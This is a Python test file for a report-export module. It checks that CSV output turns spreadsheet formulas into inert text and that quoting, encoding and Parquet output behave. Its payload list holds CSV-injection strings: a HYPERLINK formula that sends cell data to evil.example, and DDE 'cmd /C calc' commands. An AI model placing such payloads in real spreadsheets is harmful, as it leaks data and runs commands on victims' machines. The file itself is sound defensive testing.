"""No cell of a table is a formula: who opens it in a spreadsheet runs nothing that a provider wrote."""

from __future__ import annotations

import csv
import io

import pytest

from explorer import Run, compare
from explorer.reports import report_files
from tests.runs.made import run

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def cells(value: object) -> list[list[str]]:
    """Return the cells of the CSV of a value."""
    return list(csv.reader(io.StringIO(report_files(value, "it.csv")["it.csv"].decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    """As a claim, as the name of one, and as what a run is called, which heads its column."""
    hostile = run(claims={"name": formula, formula: "x"}, label=formula)
    for value in (hostile, compare(hostile, run(claims={"name": "x"}, label="y"))):
        dangerous = [cell for row in cells(value) for cell in row if cell.lstrip()[:1] in tuple("=+-@\uff1d")]
        assert dangerous == []
        if formula[0] not in "\t\r":  # which are written out, so that no formula begins the cell
            assert any(cell.startswith("'") for row in cells(value) for cell in row)


@pytest.mark.parametrize("harmless", ["-5", "3.25", "a=b", "alice@example.com", "x-y", ""])
def test_what_is_no_formula_stays(harmless: str) -> None:
    """A number below zero, a sign within a text."""
    assert any(cell == harmless for row in cells(run(claims={"name": harmless})) for cell in row)


def test_a_quote_a_comma_and_a_line_break_stay_within_their_cell() -> None:
    """RFC 4180: the next row is the next row."""
    rows = cells(run(claims={"name": 'Ann "the\nline", of\r\ntwo'}))
    assert len({len(row) for row in rows}) == 1


def test_excel_reads_the_letters_of_the_world() -> None:
    """It takes a file without a mark at its beginning for one in the code page of its country."""
    content = report_files(run(claims={"name": "Ren\u00e9e"}), "it.csv")["it.csv"]
    assert content.startswith(b"\xef\xbb\xbf")


def test_parquet_keeps_texts_as_they_are() -> None:
    """There a text is one by its kind, and no program runs it."""
    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
    content = report_files(run(claims={"name": FORMULAS[0]}), "it.parquet")["it.parquet"]
    assert FORMULAS[0] in parquet.read_table(io.BytesIO(content))["value"].to_pylist()


def test_runs_that_are_called_like_a_column() -> None:
    """Two columns of one name cannot be told apart, and Parquet refuses them."""
    pytest.importorskip("pyarrow", reason="pyarrow is not installed")
    comparison = compare(run(label="part", claims={"a": 1}), run(label="name", claims={"a": 2}), run(label="part (run)"))
    head, *_ = cells(comparison)
    assert len(set(head)) == len(head)
    assert report_files(comparison, "it.parquet")["it.parquet"]


def test_an_empty_run_has_a_table() -> None:
    """With its head, and without rows."""
    assert len(cells(Run("a", 1.0))) == 1
